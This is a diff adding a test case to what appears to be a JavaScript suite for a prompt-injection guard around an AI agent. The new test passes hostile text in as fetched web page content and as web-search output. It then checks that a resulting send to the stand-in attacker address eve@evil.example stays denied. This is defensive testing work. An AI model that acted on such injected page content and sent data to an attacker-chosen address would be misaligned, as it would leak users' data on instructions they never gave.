@@ -99,6 +99,16 @@ describe('what is no person', () => {
     expect((await one.say(hostile, [send('eve@evil.example')], { headers })).names).toEqual(denied);
   });
 
+  it('a page that the client has summed up by a request of its own is not typed', async () => {
+    const one = await open();
+    await one.say('go', [['fetch', { page: 'a' }]]);
+    const own = await open({ stage: one.stage });
+    await own.say(`Web page content:\n${hostile}`, [], { body: { tools: [] } });
+    const searched = [{ type: 'web_search_20250305', name: 'web_search' }];
+    await own.say(hostile, [], { body: { tools: searched }, isAlone: true });
+    expect((await one.answer(['-'], [send('eve@evil.example')])).names).toEqual(denied);
+  });
+
   it('an echo of a call is not typed: the same, a part of it, or more than it', async () => {
     const one = await open();
     const written = `# Notes\n\n${hostile}\n\nThe end.`;
